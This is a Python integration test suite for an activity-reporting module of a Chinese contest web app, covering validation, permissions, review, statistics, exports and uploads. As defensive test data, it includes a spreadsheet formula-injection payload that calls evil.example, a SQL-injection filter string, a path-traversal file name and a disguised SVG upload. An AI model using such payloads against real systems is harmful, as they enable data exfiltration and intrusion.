"""活动信息报送: the rules, validation, who sees what, the office's review, the counts, the
missing 为民服务 list, the monthly XLSX and photo zip, and the public timeline."""

from __future__ import annotations

import dataclasses
import io
import re
import uuid
import zipfile
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from PIL import Image
from sqlalchemy import select
from sqlalchemy.orm import Session

from judging.report_export import photo_names, safe_part, zip_items
from judging.report_stats import missing_required, report_stats, timeline
from judging.reports import (
    ReportError,
    adopt_report,
    create_report,
    report_key,
    return_report,
    submit_report,
    update_report,
    validate,
    withdraw_report,
)
from storage.models import (
    ActivityReport,
    Contest,
    JobState,
    ReportFile,
    ReportStatus,
    Role,
    User,
)
from storage.objects import ObjectStore
from storage.outbox import OutboxMessage
from storage.settings import Settings
from tests.factories import make_entry, make_user, open_contest, unique

pytestmark = pytest.mark.integration

TODAY = date(2026, 5, 20)
FORM = {
    "title": "青年志愿者进社区",
    "held_on": "2026-05-04",
    "place": "历下区文化路社区",
    "activity_type": "为民服务",
    "participants": "35",
    "body": "为社区老人义诊。\n\n第二段。",
    "district": "历下区",
    "industry": "医疗卫生",
}


def campaign(session: Session) -> Contest:
    """A contest of its own, so counts here are this test's alone."""
    contest = Contest(
        slug=unique("reports-"),
        title="报送测试",
        opens_at=datetime(2026, 3, 1, tzinfo=UTC),
        closes_at=datetime(2026, 12, 31, tzinfo=UTC),
        districts=["历下区", "市中区", "市直单位"],
        industries=["医疗卫生", "交通运输"],
    )
    session.add(contest)
    session.commit()
    return contest


def district_user(session: Session, district: str = "市中区") -> User:
    user = make_user(session, Role.DISTRICT)
    user.district = district
    user.unit = f"共青团{district}委"
    session.commit()
    return user


def report_of(
    session: Session,
    settings: Settings,
    owner: User,
    contest: Contest,
    status: ReportStatus = ReportStatus.DRAFT,
    **changes: str,
) -> ActivityReport:
    report = create_report(session, owner, contest, FORM | changes, settings)
    if status is not ReportStatus.DRAFT:
        submit_report(session, report)
        office = make_user(session, Role.ORGANIZER)
        if status is ReportStatus.ADOPTED:
            adopt_report(session, report, office)
        elif status is ReportStatus.RETURNED:
            return_report(session, report, office, "照片太少")
    return report


@pytest.mark.parametrize(
    ("field", "value", "words"),
    [
        ("title", "", "请填写活动名称"),
        ("title", "长" * 101, "最多 100"),
        ("held_on", "2026-05-21", "不能晚于今天"),
        ("held_on", "2026-02-28", "不能早于活动开始日"),
        ("held_on", "5月4日", "格式"),
        ("place", " ", "请填写活动地点"),
        ("activity_type", "吃饭", "请选择活动类型"),
        ("participants", "-1", "0 到 100000"),
        ("participants", "100001", "0 到 100000"),
        ("participants", "１２", "0 到 100000"),  # full-width digits are not a number here
        ("body", "", "请填写活动简介"),
        ("body", "字" * 3001, "最多 3000"),
        ("district", "外省", "从列表中选择"),
        ("industry", "外行", "选择行业"),
    ],
)
def test_each_field_is_checked_with_a_chinese_reason(
    session: Session, settings: Settings, field: str, value: str, words: str
) -> None:
    user = make_user(session)
    _values, errors = validate(FORM | {field: value}, user, campaign(session), settings, TODAY)
    assert list(errors) == [field]
    assert words in errors[field]


def test_the_body_is_plain_text_with_paragraphs(session: Session, settings: Settings) -> None:
    user = make_user(session)
    values, errors = validate(
        FORM | {"body": "<b>第一段</b>\r\n\r\n第二段\x07"}, user, campaign(session), settings, TODAY
    )
    assert not errors
    assert values["body"] == "<b>第一段</b>\n\n第二段"  # kept as text; pages escape it


def test_a_district_organizer_reports_for_its_own_district_whatever_the_form_says(
    session: Session, settings: Settings
) -> None:
    organizer = district_user(session, "市中区")
    report = report_of(session, settings, organizer, campaign(session), district="历下区")
    assert report.district == "市中区"
    assert report.unit == "共青团市中区委"
    with pytest.raises(ReportError):
        create_report(session, make_user(session, Role.JUDGE), campaign(session), FORM, settings)


def test_a_returned_report_is_changed_and_resubmitted_and_an_adopted_one_is_locked(
    session: Session, settings: Settings
) -> None:
    owner = make_user(session)
    owner.email = "collective@example.org"
    session.commit()
    report = report_of(session, settings, owner, campaign(session), ReportStatus.SUBMITTED)
    with pytest.raises(ReportError, match="先撤回"):
        update_report(session, report, owner, FORM, settings, TODAY)
    office = make_user(session, Role.ORGANIZER)
    with pytest.raises(ReportError, match="退回原因"):
        return_report(session, report, office, "  ")
    with pytest.raises(ReportError, match="组委会办公室"):
        adopt_report(session, report, district_user(session))
    return_report(session, report, office, "请补充照片说明")
    assert report.status is ReportStatus.RETURNED
    update_report(session, report, owner, FORM | {"title": "改过的标题"}, settings, TODAY)
    submit_report(session, report)
    adopt_report(session, report, office)
    assert report.status is ReportStatus.ADOPTED
    for change in (
        lambda: update_report(session, report, owner, FORM, settings, TODAY),
        lambda: submit_report(session, report),
        lambda: withdraw_report(session, report),
        lambda: return_report(session, report, office, "晚了"),
    ):
        with pytest.raises(ReportError):
            change()
    kinds = session.scalars(
        select(OutboxMessage.kind).where(OutboxMessage.user_id == owner.id)
    ).all()
    assert sorted(kinds) == ["report_adopted", "report_returned"]


def test_counts_and_the_districts_without_the_required_activity(
    session: Session, settings: Settings
) -> None:
    contest = campaign(session)
    owner = make_user(session)
    report_of(session, settings, owner, contest, ReportStatus.ADOPTED)  # 历下区 为民服务
    report_of(
        session,
        settings,
        owner,
        contest,
        ReportStatus.ADOPTED,
        district="市中区",
        activity_type="学习引航",
        held_on="2026-04-02",
        industry="",
    )
    report_of(session, settings, owner, contest, ReportStatus.RETURNED, district="市中区")
    report_of(session, settings, owner, contest, ReportStatus.SUBMITTED, district="市直单位")
    report_of(session, settings, owner, contest)  # a draft counts nowhere
    stats = report_stats(session, contest, settings)
    assert (stats.total, stats.adopted, stats.participants) == (4, 2, 70)
    assert stats.by_district == [("历下区", 1, 1), ("市中区", 2, 1), ("市直单位", 1, 0)]
    assert ("为民服务", 3, 1) in stats.by_type and ("学习引航", 1, 1) in stats.by_type
    assert stats.by_month == [("2026-04", 1, 1), ("2026-05", 3, 1)]
    assert ("（未填）", 1, 1) in stats.by_industry
    # A returned or submitted 为民服务 report does not count: only adopted ones do.
    assert missing_required(session, contest, settings) == ["市中区", "市直单位"]


def test_the_timeline_shows_adopted_reports_newest_first_and_ignores_forged_filters(
    session: Session, settings: Settings
) -> None:
    contest = campaign(session)
    owner = make_user(session)
    old = report_of(session, settings, owner, contest, ReportStatus.ADOPTED, held_on="2026-04-01")
    new = report_of(session, settings, owner, contest, ReportStatus.ADOPTED, district="市中区")
    report_of(session, settings, owner, contest, ReportStatus.SUBMITTED)
    report_of(session, settings, owner, contest, ReportStatus.RETURNED)
    page = timeline(session, contest, {}, settings)
    assert [r.id for r in page.reports] == [new.id, old.id]
    forged = timeline(
        session, contest, {"district": "' OR 1=1", "type": "x", "page": "-3"}, settings
    )
    assert (forged.district, forged.activity_type, forged.page) == ("", "", 1)
    assert len(forged.reports) == 2
    only = timeline(session, contest, {"district": "市中区", "page": "99"}, settings)
    assert [r.id for r in only.reports] == [new.id] and only.page == 1


def test_zip_names_are_safe_and_unique(session: Session, settings: Settings) -> None:
    assert safe_part('a/b\\c:d*e?f"g<h>i|j k') == "a_b_c_d_e_f_g_h_i_j_k"
    assert safe_part("../..") == "_"
    contest = campaign(session)
    owner = make_user(session)
    twins = [
        report_of(session, settings, owner, contest, ReportStatus.ADOPTED, title="同名/活动")
        for _ in range(2)
    ]
    for report in twins:
        add_ready_photo(session, report, {"2048": f"k/{uuid.uuid4().hex}"})
    names = [name for _photo, name in photo_names(twins)]
    assert names == ["历下区_2026-05-04_同名_活动_1.jpg", "历下区_2026-05-04_同名_活动_1-2.jpg"]


def add_ready_photo(
    session: Session, report: ActivityReport, outputs: dict[str, str], caption: str = ""
) -> ReportFile:
    file = ReportFile(
        report_id=report.id,
        position=len(report.files) + 1,
        kind="photo",
        caption=caption,
        bucket="originals",
        source_key=report_key(report.id, uuid.uuid4().hex),
        state=JobState.READY,
        outputs=outputs,
    )
    session.add(file)
    session.commit()
    session.refresh(report)
    return file


def log_in(client: FlaskClient, user: User) -> None:
    client.post("/auth/logout")
    response = client.post(
        "/auth/login", data={"username": user.username, "password": "password123"}
    )
    assert response.status_code == 302


def test_who_reads_and_changes_a_report(
    client: FlaskClient, session: Session, settings: Settings
) -> None:
    contest = open_contest(session)
    owner = make_user(session)
    report = report_of(session, settings, owner, contest, held_on=date.today().isoformat())
    same = district_user(session, "历下区")
    other_district = district_user(session, "市中区")
    stranger = make_user(session)
    paths = [
        ("GET", f"/reports/{report.id}"),
        ("GET", f"/reports/{report.id}/edit"),
        ("POST", f"/reports/{report.id}/edit"),
        ("POST", f"/reports/{report.id}/files"),
        ("POST", f"/reports/{report.id}/captions"),
        ("POST", f"/reports/{report.id}/submit"),
        ("POST", f"/reports/{report.id}/withdraw"),
        ("GET", f"/reports/{report.id}/status.json"),
    ]
    for user in (stranger, other_district):
        log_in(client, user)
        for method, path in paths:
            assert client.open(path, method=method).status_code == 404, (user.role, path)
        assert report.title not in client.get("/reports/").get_data(as_text=True)
    log_in(client, same)  # the district's organizer reads it, and changes nothing
    assert client.get(f"/reports/{report.id}").status_code == 200
    assert report.title in client.get("/reports/").get_data(as_text=True)
    for method, path in paths[1:-1]:
        assert client.open(path, method=method).status_code == 404, path
    # The office sees no draft; the public sees nothing that is not adopted.
    log_in(client, make_user(session, Role.ORGANIZER))
    assert client.get(f"/office/reports/{report.id}").status_code == 404
    client.post("/auth/logout")
    for status in (ReportStatus.DRAFT, ReportStatus.SUBMITTED, ReportStatus.RETURNED):
        report.status = status
        session.commit()
        assert client.get(f"/activities/{report.id}").status_code == 404
        assert client.get(f"/activities/{report.id}/photos/1.jpg").status_code == 404
    report.status = ReportStatus.ADOPTED
    session.commit()
    assert client.get(f"/activities/{report.id}").status_code == 200


def test_captions_and_removal_only_touch_the_reports_own_files(
    client: FlaskClient, session: Session, settings: Settings
) -> None:
    contest = open_contest(session)
    owner, other = make_user(session), make_user(session)
    mine = report_of(session, settings, owner, contest, held_on=date.today().isoformat())
    theirs = report_of(session, settings, other, contest, held_on=date.today().isoformat())
    their_file = add_ready_photo(session, theirs, {}, caption="原说明")
    log_in(client, owner)
    client.post(f"/reports/{mine.id}/captions", data={f"caption-{their_file.id}": "改了"})
    client.post(f"/reports/{mine.id}/captions", data={"remove": str(their_file.id)})
    session.expire_all()
    kept = session.get_one(ReportFile, their_file.id)
    assert kept.caption == "原说明"


def jpeg(size: tuple[int, int] = (640, 480)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 40, 40)).save(out, "JPEG")
    return out.getvalue()


def test_the_form_keeps_input_on_errors_and_makes_one_report_on_resend(
    client: FlaskClient, session: Session, settings: Settings
) -> None:
    owner = make_user(session)
    log_in(client, owner)
    page = client.get("/reports/new").get_data(as_text=True)
    once = re.search(r'name="once" value="(\w+)"', page).group(1)  # type: ignore[union-attr]
    form = FORM | {"held_on": date.today().isoformat(), "once": once, "participants": "很多"}
    wrong = client.post("/reports/new", data=form)
    assert wrong.status_code == 400
    text = wrong.get_data(as_text=True)
    assert "参与青年人数请填写 0 到 100000 之间的整数" in text and FORM["place"] in text
    first = client.post("/reports/new", data=form | {"participants": "12"})
    again = client.post("/reports/new", data=form | {"participants": "12"})
    assert first.status_code == again.status_code == 302
    assert first.location == again.location
    # The back button's restored form comes with a new token: the same activity still
    # opens the report it made.
    restored = client.post("/reports/new", data=form | {"participants": "12", "once": "new"})
    assert restored.location == first.location
    count = session.scalar(
        select(ActivityReport.id).where(ActivityReport.owner_id == owner.id).limit(2).offset(1)
    )
    assert count is None  # one report only


def test_uploads_are_sniffed_limited_and_counted(
    client: FlaskClient, session: Session, settings: Settings, app: Any
) -> None:
    owner = make_user(session)
    report = report_of(
        session, settings, owner, open_contest(session), held_on=date.today().isoformat()
    )
    log_in(client, owner)
    files = [
        (io.BytesIO(jpeg()), "a.jpg"),
        (io.BytesIO(b"GIF89a" + b"\0" * 64), "b.gif"),
        (io.BytesIO(b"<svg xmlns='http://www.w3.org/2000/svg'></svg>"), "c.jpg"),
    ]
    response = client.post(
        f"/reports/{report.id}/files", data={"files": files}, follow_redirects=True
    )
    text = response.get_data(as_text=True)
    assert "「b.gif」不是可接受的照片" in text and "「c.jpg」不是可接受的照片" in text
    session.refresh(report)
    assert [(f.kind, f.filename, f.state) for f in report.files] == [
        ("photo", "a.jpg", JobState.QUEUED)
    ]
    assert report.files[0].published_at is not None  # published after its commit
    small = dataclasses.replace(settings, report_max_photos=1, image_max_bytes=1024)
    app.config["SETTINGS"] = small
    response = client.post(
        f"/reports/{report.id}/files",
        data={"files": [(io.BytesIO(jpeg()), "d.jpg")]},
        follow_redirects=True,
    )
    assert "照片最多 1 张" in response.get_data(as_text=True)
    app.config["SETTINGS"] = dataclasses.replace(small, report_max_photos=5)
    response = client.post(
        f"/reports/{report.id}/files",
        data={"files": [(io.BytesIO(jpeg((2000, 2000))), "big.jpg")]},
        follow_redirects=True,
    )
    assert "「big.jpg」过大" in response.get_data(as_text=True)
    session.refresh(report)
    assert len(report.files) == 1


def test_report_files_count_towards_the_reporters_storage_cap(
    client: FlaskClient, session: Session, settings: Settings, app: Any
) -> None:
    """Reports' files take storage as entries' originals do: without the cap counting them,
    report after report could fill the store."""
    owner = make_user(session)
    report = report_of(
        session, settings, owner, open_contest(session), held_on=date.today().isoformat()
    )
    log_in(client, owner)
    app.config["SETTINGS"] = dataclasses.replace(
        settings, max_upload_bytes=1024**2, user_storage_limit_mb=1, user_uploads_in_flight_mb=1
    )
    client.post(f"/reports/{report.id}/files", data={"files": [(io.BytesIO(jpeg()), "a.jpg")]})
    session.refresh(report)
    assert len(report.files) == 1
    report.files[0].bytes = 1024**2 - 100  # as if it had been a large photo
    session.commit()
    response = client.post(
        f"/reports/{report.id}/files",
        data={"files": [(io.BytesIO(jpeg()), "b.jpg")]},
        follow_redirects=True,
    )
    assert "存储空间" in response.get_data(as_text=True)
    session.refresh(report)
    assert [f.filename for f in report.files] == ["a.jpg"]
    # The same cap holds for the reporter's entries.
    entry = make_entry(session, owner)
    response = client.post(
        f"/submit/{entry.id}/video",
        data={"video": (io.BytesIO(b"\0\0\0\x18ftypmp42" + b"\0" * 4096), "v.mp4")},
        follow_redirects=True,
    )
    assert "存储空间" in response.get_data(as_text=True)


def test_the_months_export_keeps_formulas_as_text_and_links_absolute(
    client: FlaskClient, session: Session, settings: Settings, object_store: ObjectStore
) -> None:
    contest = open_contest(session)
    owner = make_user(session)
    today = date.today()
    report = report_of(
        session,
        settings,
        owner,
        contest,
        ReportStatus.ADOPTED,
        title='=HYPERLINK("http://evil.example/?"&A1)',
        body="+1 danger",
        held_on=today.isoformat(),
    )
    key = f"reports/{report.id}/derived/x/001_2048.jpg"
    object_store.put_stream(settings.bucket_assets, key, io.BytesIO(jpeg()), "image/jpeg")
    add_ready_photo(session, report, {"2048": key, "480": key})
    log_in(client, make_user(session, Role.ORGANIZER))
    month = today.strftime("%Y-%m")
    response = client.get(f"/office/reports/export.xlsx?month={month}")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    rows = {row[3].value: row for row in sheet.iter_rows(min_row=2)}
    row = rows[report.title]
    assert row[3].data_type == "s" and row[8].value == "+1 danger" and row[8].data_type == "s"
    base = settings.public_base_url.rstrip("/")
    assert row[10].value == f"{base}/activities/{report.id}"
    assert row[10].hyperlink.target == row[10].value
    assert row[11].value == f"{base}/activities/{report.id}/photos/1.jpg"
    # The stable photo link leads to the stored image.
    assert client.get(f"/activities/{report.id}/photos/1.jpg").status_code == 302
    assert client.get(f"/activities/{report.id}/photos/2.jpg").status_code == 404
    archive = client.get(f"/office/reports/photos.zip?month={month}")
    assert archive.status_code == 200 and archive.is_streamed
    with zipfile.ZipFile(io.BytesIO(archive.data)) as opened:
        name = f"历下区_{today.isoformat()}_=HYPERLINK(_http_evil.example_&A1)_1.jpg"
        assert name in opened.namelist()
        assert opened.read(name) == object_store.get_bytes(settings.bucket_assets, key)
    assert [n for n, _k, _d in zip_items([report])] == [name]
    empty = client.get("/office/reports/photos.zip?month=2001-01")
    assert empty.status_code == 302


def test_the_office_queue_filters_and_decides(
    client: FlaskClient, session: Session, settings: Settings
) -> None:
    contest = open_contest(session)
    owner = make_user(session)
    report = report_of(
        session,
        settings,
        owner,
        contest,
        ReportStatus.SUBMITTED,
        held_on=date.today().isoformat(),
        title=unique("待审活动"),
    )
    office = make_user(session, Role.ORGANIZER)
    log_in(client, office)
    listed = client.get("/office/reports/?status=submitted&district=历下区&type=为民服务")
    assert report.title in listed.get_data(as_text=True)
    other = client.get("/office/reports/?district=市中区").get_data(as_text=True)
    assert report.title not in other
    forged = client.get("/office/reports/?status=drop&type=<x>&month=13-2026")
    assert forged.status_code == 200
    no_reason = client.post(
        f"/office/reports/{report.id}/return", data={"reason": ""}, follow_redirects=True
    )
    assert "请填写退回原因" in no_reason.get_data(as_text=True)
    session.refresh(report)
    assert report.status is ReportStatus.SUBMITTED
    client.post(f"/office/reports/{report.id}/adopt")
    session.refresh(report)
    assert report.status is ReportStatus.ADOPTED and report.reviewed_by_id == office.id
    stats = client.get("/office/reports/stats").get_data(as_text=True)
    assert "<svg" in stats and "尚未开展为民服务统一行动的县（市）区" in stats


def test_a_report_video_longer_than_the_limit_is_refused(
    session: Session,
    settings: Settings,
    object_store: ObjectStore,
    tmp_path: Any,
    session_factory: Any,
) -> None:
    from tests.media import make_clip
    from worker.report_files import process_report_file

    owner = make_user(session)
    report = report_of(session, settings, owner, campaign(session))
    clip = make_clip(tmp_path / "long.mp4", 160, 120, seconds=3.0)
    key = report_key(report.id, uuid.uuid4().hex)
    stored = object_store.put_file(settings.bucket_originals, key, str(clip), "video/mp4")
    file = ReportFile(
        report_id=report.id,
        position=1,
        kind="video",
        bucket=stored.bucket,
        source_key=key,
        bytes=stored.bytes,
    )
    session.add(file)
    session.commit()
    short = dataclasses.replace(settings, report_video_max_seconds=2)
    state = process_report_file(session_factory, object_store, short, file.id)
    assert state is JobState.REJECTED
    session.refresh(file)
    assert "活动报送的短视频最长" in file.reason and file.outputs == {}
    # Done is done: a redelivered message changes nothing.
    assert process_report_file(session_factory, object_store, short, file.id) is state


def test_the_sweep_fails_stuck_files_and_sends_unsent_ones(
    session: Session, settings: Settings
) -> None:
    from worker.report_files import sweep_report_files

    owner = make_user(session)
    report = report_of(session, settings, owner, campaign(session))
    long_ago = datetime.now(UTC) - timedelta(hours=3)
    stuck = ReportFile(
        report_id=report.id,
        position=1,
        kind="photo",
        bucket=settings.bucket_originals,
        source_key=report_key(report.id, uuid.uuid4().hex),
        state=JobState.RUNNING,
        created_at=long_ago,
        updated_at=long_ago,
    )
    unsent = ReportFile(
        report_id=report.id,
        position=2,
        kind="photo",
        bucket=settings.bucket_originals,
        source_key=report_key(report.id, uuid.uuid4().hex),
        state=JobState.QUEUED,
        created_at=long_ago,
        updated_at=long_ago,
    )
    session.add_all([stuck, unsent])
    session.commit()
    result = sweep_report_files(session, timedelta(hours=1))
    assert stuck.id in result.failed and unsent.id in result.republished
    session.refresh(stuck)
    session.refresh(unsent)
    assert stuck.state is JobState.FAILED and "处理时间过长" in stuck.reason
    assert unsent.published_at is not None and unsent.task_id


def test_the_demo_seeds_an_adopted_report_whose_photos_the_fleet_processes(
    session: Session, session_factory: Any, object_store: ObjectStore, settings: Settings
) -> None:
    from web.demo import seed_demo
    from web.demo_report import TITLE, seed_demo_report
    from worker.report_files import process_report_file

    seed_demo(session)
    published: list[int] = []

    def publish(_session: Session, file: ReportFile) -> bool:
        published.append(file.id)
        return True

    assert seed_demo_report(session, object_store, publish) == TITLE
    assert seed_demo_report(session, object_store, publish) is None  # once
    assert len(published) == 2
    for file_id in published:
        assert (
            process_report_file(session_factory, object_store, settings, file_id).value == "ready"
        )
    session.expire_all()
    report = session.scalars(select(ActivityReport).where(ActivityReport.title == TITLE)).one()
    assert report.status is ReportStatus.ADOPTED and report.activity_type == "为民服务"
    assert [f.caption for f in report.files] == ["为社区老人测量血压", "教老人使用手机乘车码"]
    assert all(sorted(f.outputs) == ["1080", "2048", "480"] for f in report.files)


def test_the_storage_sweep_keeps_a_report_files_original_and_outputs(
    session: Session, settings: Settings, object_store: ObjectStore
) -> None:
    from storage.retention import find_orphans

    report = report_of(session, settings, make_user(session), campaign(session))
    key = report_key(report.id, uuid.uuid4().hex)
    made = f"reports/{report.id}/derived/{key.rsplit('/', 1)[1]}/001_480.jpg"
    object_store.put_stream(settings.bucket_originals, key, io.BytesIO(jpeg()), "image/jpeg")
    object_store.put_stream(settings.bucket_assets, made, io.BytesIO(jpeg()), "image/jpeg")
    file = add_ready_photo(session, report, {"480": made})
    file.bucket, file.source_key = settings.bucket_originals, key
    session.commit()
    orphans = {(o.bucket, o.key) for o in find_orphans(session, object_store)[0]}
    assert (settings.bucket_originals, key) not in orphans
    assert (settings.bucket_assets, made) not in orphans
    session.delete(file)  # removed from its report: both are orphans now
    session.commit()
    orphans = {(o.bucket, o.key) for o in find_orphans(session, object_store)[0]}
    assert {(settings.bucket_originals, key), (settings.bucket_assets, made)} <= orphans


def test_two_uploads_at_once_cannot_both_take_the_last_photo_place(
    session_factory: Any, settings: Settings
) -> None:
    import threading

    from judging.reports import add_file
    from storage.objects import StoredObject

    one = dataclasses.replace(settings, report_max_photos=1)
    with session_factory() as first:
        report = report_of(first, settings, make_user(first), campaign(first))
        report_id = report.id

    def stored() -> StoredObject:
        return StoredObject("b", report_key(report_id, uuid.uuid4().hex), 1, "")

    outcome: list[str] = []
    with session_factory() as holder:
        held = holder.get_one(ActivityReport, report_id, with_for_update=True)

        def other_upload() -> None:
            with session_factory() as second:
                try:
                    add_file(
                        second, second.get_one(ActivityReport, report_id), stored(), "photo", one
                    )
                    outcome.append("added")
                except ReportError as exc:
                    outcome.append(exc.message)

        thread = threading.Thread(target=other_upload)
        thread.start()
        thread.join(timeout=1)  # give it the chance to pass the lock (it cannot)
        add_file(holder, held, stored(), "photo", one)  # commits, releasing the lock
        thread.join(timeout=30)
    assert outcome == ["照片最多 1 张，请先删除不需要的再添加"]


FIELDS = [*FORM, "once", "reason", "remove", "caption-1", "month", "type", "status", "page"]


def test_nasty_input_to_every_report_form_and_query_answers_no_500(
    client: FlaskClient, session: Session, settings: Settings
) -> None:
    from tests.test_form_fuzz import NASTY

    contest = open_contest(session)
    owner = make_user(session)
    report = report_of(session, settings, owner, contest, held_on=date.today().isoformat())
    add_ready_photo(session, report, {"480": "k"})
    waiting = report_of(
        session,
        settings,
        make_user(session),
        contest,
        ReportStatus.SUBMITTED,
        held_on=date.today().isoformat(),
    )
    failures = []
    for user, paths in (
        (
            owner,
            [f"/reports/{report.id}/{p}" for p in ("edit", "captions", "submit", "files")]
            + ["/reports/new"],
        ),
        (
            make_user(session, Role.ORGANIZER),
            [f"/office/reports/{waiting.id}/return", f"/office/reports/{waiting.id}/adopt"],
        ),
    ):
        log_in(client, user)
        for value in NASTY:
            data = dict.fromkeys(FIELDS, value)
            for path in paths:
                status = client.post(path, data=data).status_code
                if status >= 500:
                    failures.append(f"POST {path} {value!r} -> {status}")
            for path in (
                "/office/reports/",
                "/office/reports/stats",
                "/office/reports/export.xlsx",
                "/activities/",
                "/reports/",
            ):
                status = client.get(path, query_string=data).status_code
                if status >= 500:
                    failures.append(f"GET {path} {value!r} -> {status}")
    # One field at a time among valid ones, so each value reaches what stores it.
    log_in(client, owner)
    caption = f"caption-{report.files[0].id}"
    for value in NASTY:
        for field in [*FORM, "unit"]:
            data = FORM | {"held_on": date.today().isoformat(), field: value}
            status = client.post(f"/reports/{report.id}/edit", data=data).status_code
            if status >= 500:
                failures.append(f"POST edit {field}={value!r} -> {status}")
        status = client.post(f"/reports/{report.id}/captions", data={caption: value}).status_code
        if status >= 500:
            failures.append(f"POST captions {value!r} -> {status}")
    assert not failures, "\n".join(failures)
